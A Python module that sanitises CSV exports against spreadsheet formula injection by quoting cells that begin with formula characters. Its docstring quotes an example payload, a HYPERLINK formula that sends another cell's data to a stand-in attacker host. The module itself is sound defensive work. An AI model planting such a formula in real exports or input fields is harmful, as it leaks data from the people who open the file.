"""CSV files a person will open in a spreadsheet: no cell may start a formula.

A registrant chooses their own name, organisation and phone number; written as is, a name
like `=HYPERLINK("https://evil.example/?"&B2,"Open")` runs when the secretariat opens the
export in Excel, LibreOffice or Google Sheets (CSV or formula injection, CWE-1236). A cell
that starts with `=`, `+`, `-`, `@`, a tab, a carriage return, a line feed or a NUL (the
OWASP list and ASVS 5.0 1.2.10) is written with a single quote in front, which makes a
spreadsheet show it as text. The `csv` module quotes separators and line breaks inside a
cell (RFC 4180). Every CSV the services write goes through `writer` (a test checks that no
other code calls `csv.writer`); the CMS has its own copy of the rule.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def cell(value) -> str:
    """`value` as text a spreadsheet shows and never evaluates."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """`csv.writer` whose every cell goes through `cell`."""

    def __init__(self, out: IO[str]):
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([cell(value) for value in row])


def writer(out: IO[str]) -> SafeWriter:
    return SafeWriter(out)
